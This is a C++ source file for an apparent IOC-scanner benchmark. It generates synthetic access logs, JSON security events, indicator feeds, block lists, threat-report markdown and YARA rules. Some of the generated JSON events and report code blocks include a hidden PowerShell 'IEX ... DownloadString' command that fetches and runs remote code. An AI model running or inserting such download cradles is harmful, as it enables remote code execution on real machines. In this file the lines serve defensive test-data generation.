#include "corpus_styles.hpp"

#include <array>

namespace iocscan::bench {
namespace {

template <std::size_t N>
const char* one_of(Pieces& p, const std::array<const char*, N>& items) {
    return items[p.pick(N)];
}

class Styled {
public:
    explicit Styled(Pieces& pieces) : p_(pieces) {}

    /// nginx "combined" lines, and a squid access line in five; with
    /// `ipv6_clients`, the same lines with IPv6 addresses (Pieces::ipv6())
    /// where the client and the squid peer addresses stand.
    void access(std::string& out, bool ipv6_clients) {
        const auto address = [&] { return ipv6_clients ? p_.ipv6() : p_.ipv4(false); };
        static const std::array<const char*, 6> kPaths = {
            "/static/js/app.", "/images/banner-", "/api/v2/items?page=", "/wp-login.php?redirect_to=",
            "/assets/fonts/inter-", "/products/view?id="};
        static const std::array<const char*, 4> kAgents = {
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/118.0.5993.88 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0",
            "curl/7.88.1", "python-requests/2.31.0"};
        if (p_.pick(5) == 0) {
            // One expression, as the IPv4 lines always were: the order the
            // pieces draw their numbers in keeps those lines as they were.
            const auto client = [&] {
                return ipv6_clients ? p_.ipv6() : "10." + p_.octet() + "." + p_.octet() + "." + p_.octet();
            };
            out += "1696254" + p_.number(1000000) + "." + p_.number(1000) + "    " + p_.number(3000) + " " +
                   client() + " TCP_MISS/200 " + p_.number(90000) + " GET " + p_.url(false) + " - HIER_DIRECT/" +
                   address() + " text/html\n";
            return;
        }
        out += address() + " - - [02/Oct/2026:13:" + p_.number(60) + ":" + p_.number(60) + " +0000] \"GET " +
               one_of(p_, kPaths) + p_.hex(6) + " HTTP/1.1\" " + (p_.pick(8) ? "200 " : "404 ") +
               p_.number(50000) + " \"" + (p_.pick(3) ? "-" : "https://www." + p_.host() + "/") + "\" \"" +
               one_of(p_, kAgents) + "\"\n";
    }

    /// Elastic Common Schema-like events: process starts, DNS answers,
    /// network connections, web requests.
    void json(std::string& out) {
        out += "{\"@timestamp\":\"2026-10-02T13:55:" + p_.number(60) + "." + p_.number(1000) +
               "Z\",\"host\":{\"name\":\"WS-" + p_.number(9000) + "\",\"ip\":[\"10.20." + p_.octet() + "." +
               p_.octet() + "\"]},";
        switch (p_.pick(4)) {
            case 0:
                out += "\"event\":{\"category\":[\"process\"],\"action\":\"start\"},\"process\":{\"pid\":" +
                       p_.number(30000) +
                       ",\"executable\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\","
                       "\"command_line\":\"powershell.exe -nop -w hidden -c \\\"IEX (New-Object "
                       "Net.WebClient).DownloadString('" +
                       escaped_slashes(p_.url(false)) + "')\\\"\",\"hash\":{\"sha256\":\"" + p_.hex(64) + "\"}}";
                break;
            case 1:
                out += "\"event\":{\"category\":[\"network\"],\"action\":\"dns\"},\"dns\":{\"question\":{\"name\":\"" +
                       p_.host() + "\",\"type\":\"A\"},\"answers\":[{\"data\":\"" + p_.ipv4(false) + "\",\"ttl\":" +
                       p_.number(3600) + "}]}";
                break;
            case 2:
                out += "\"event\":{\"category\":[\"network\"],\"action\":\"connection\"},\"source\":{\"port\":" +
                       p_.number(65536) + "},\"destination\":{\"ip\":\"" + p_.ipv4(false) + "\",\"port\":443},"
                       "\"network\":{\"bytes\":" + p_.number(900000) + ",\"transport\":\"tcp\"}";
                break;
            default:
                out += "\"event\":{\"category\":[\"web\"]},\"url\":{\"full\":\"" + escaped_slashes(p_.url(false)) +
                       "\"},\"user\":{\"email\":\"" + p_.word() + "." + p_.word() + "@corp.example.com\"},"
                       "\"user_agent\":{\"original\":\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"}";
                break;
        }
        out += "}\n";
    }

    /// An indicator feed export: a header now and then, one indicator a row,
    /// defanged as feeds publish them, descriptions quoted.
    void csv(std::string& out) {
        if (p_.pick(200) == 0) out += "indicator,type,first_seen,last_seen,confidence,tags,description\n";
        std::string indicator, type;
        switch (p_.pick(6)) {
            case 0: indicator = p_.url(true), type = "url"; break;
            case 1: indicator = p_.ipv4(p_.pick(2) == 0), type = "ipv4"; break;
            case 2: indicator = Pieces::defanged_host(p_.host()), type = "domain"; break;
            case 3: indicator = p_.hex(64), type = "sha256"; break;
            case 4: indicator = p_.ipv4(false) + ":" + p_.number(65536), type = "ipv4:port"; break;
            default: indicator = p_.hex(32), type = "md5"; break;
        }
        out += "\"" + indicator + "\"," + type + ",2026-09-" + p_.number(30) + ",2026-10-0" + p_.number(9) + "," +
               p_.number(101) + ",\"" + p_.word() + ";" + p_.word() + "\",\"" + sentence(6) + ", seen in " +
               p_.number(40) + " samples\"\n";
    }

    /// Indicator lists as block lists and sample sets ship them, one value
    /// a line: sha256sum/md5sum output ("<hash>  <file>"), bare hashes,
    /// IPv4 addresses (some with a port), URLs, a "#" comment now and then.
    void lists(std::string& out) {
        if (p_.pick(100) == 0) out += "# " + sentence(6) + "\n";
        switch (p_.pick(6)) {
            case 0: out += p_.hex(64) + "  " + p_.word() + ".exe\n"; break;
            case 1: out += p_.hex(32) + "  samples/" + p_.word() + ".dll\n"; break;
            case 2: out += p_.hex(p_.pick(2) == 0 ? 40 : 64) + "\n"; break;
            case 3: out += p_.ipv4(false) + "\n"; break;
            case 4: out += p_.ipv4(false) + ":" + p_.number(65536) + "\n"; break;
            default: out += p_.url(false) + "\n"; break;
        }
    }

    /// A threat report section: a heading, prose, an IOC table, a list, a
    /// fenced code block.
    void markdown(std::string& out) {
        out += "## " + sentence(4) + "\n\n" + sentence(30) + " The sample (version " + p_.number(9) + "." +
               p_.number(20) + "." + p_.number(99) + ") drops `C:\\Users\\Public\\" + p_.word() +
               ".exe` and beacons to `" + p_.ipv4(true) + "`. " + sentence(25) + "\n\n";
        out += "| Indicator | Type | Notes |\n|---|---|---|\n";
        for (unsigned i = 0, n = 2 + p_.pick(4); i < n; ++i) {
            switch (p_.pick(4)) {
                case 0: out += "| `" + p_.url(true) + "` | URL | " + sentence(4) + " |\n"; break;
                case 1: out += "| `" + p_.ipv4(true) + "` | C2 | first seen 2026-09-" + p_.number(30) + " |\n"; break;
                case 2: out += "| `" + p_.hex(64) + "` | SHA256 | " + p_.word() + ".dll |\n"; break;
                default:
                    out += "| `" + Pieces::defanged_host(p_.host()) + "` | domain | " + sentence(3) + " |\n";
                    break;
            }
        }
        out += "\n- " + sentence(8) + "\n- Beacon interval: " + p_.number(120) + "s (jitter " + p_.number(30) +
               "%)\n- Contact: soc@" + p_.host() + "\n\n```powershell\nIEX (New-Object Net.WebClient)"
               ".DownloadString('" + p_.url(true) + "')\n```\n\n";
    }

    /// A rule as detection teams write them: meta with a reference URL and
    /// a hash, text, hex and regex strings, a condition.
    void yara(std::string& out) {
        const std::string n = p_.number(100000);
        out += "rule MAL_" + p_.word() + "_" + n + " : loader\n{\n    meta:\n        description = \"Detects " +
               sentence(5) + "\"\n        author = \"ops team\"\n        date = \"2026-10-0" + p_.number(9) +
               "\"\n        reference = \"https://intel." + p_.host() + "/reports/" + n + "\"\n        hash1 = \"" +
               p_.hex(64) + "\"\n    strings:\n        $s1 = \"" + p_.host() + "\" ascii wide\n        $s2 = \"/" +
               p_.word() + ".php?id=\" ascii\n        $x1 = { 4D 5A 90 00 ";
        for (int i = 0; i < 8; ++i) out += p_.pick(4) ? p_.hex(2) + " " : std::string("?? ");
        out += "}\n        $r1 = /https?:\\/\\/[a-z0-9\\-]{4,16}\\." + p_.word() +
               "\\.(com|net)\\/[a-z]{3,8}\\.php/ nocase\n    condition:\n        uint16(0) == 0x5A4D and filesize < " +
               p_.number(5) + "MB and (2 of ($s*) or $x1)\n}\n\n";
    }

    /// Blog-post paragraphs: long lines of words, numbers and punctuation,
    /// an IOC in one paragraph in three.
    void prose(std::string& out) {
        out += sentence(20) + ", e.g. in version " + p_.number(9) + "." + p_.number(20) + " (released " +
               p_.number(30) + " September). " + sentence(25) + "; " + sentence(15) + ".";
        switch (p_.pick(6)) {
            case 0: out += " The operators used " + p_.url(true) + " for staging."; break;
            case 1: out += " Traffic went to " + p_.ipv4(true) + " over port 443."; break;
            default: break;
        }
        out += " " + sentence(30) + ".\n\n";
    }

private:
    std::string sentence(unsigned words) {
        std::string s = p_.word();
        s[0] = static_cast<char>(s[0] - 'a' + 'A');
        for (unsigned i = 1; i < words; ++i) s += " " + p_.word();
        return s;
    }
    /// "/" as JSON encoders write it: "\/".
    static std::string escaped_slashes(const std::string& text) {
        std::string out;
        for (char c : text) {
            if (c == '/') out += '\\';
            out += c;
        }
        return out;
    }

    Pieces& p_;
};

}  // namespace

void append_styled(CorpusStyle style, Pieces& pieces, std::string& out) {
    Styled styled(pieces);
    switch (style) {
        case CorpusStyle::access: styled.access(out, false); break;
        case CorpusStyle::access6: styled.access(out, true); break;
        case CorpusStyle::json: styled.json(out); break;
        case CorpusStyle::csv: styled.csv(out); break;
        case CorpusStyle::lists: styled.lists(out); break;
        case CorpusStyle::markdown: styled.markdown(out); break;
        case CorpusStyle::yara: styled.yara(out); break;
        case CorpusStyle::prose:
        case CorpusStyle::mixed: styled.prose(out); break;
    }
}

}  // namespace iocscan::bench
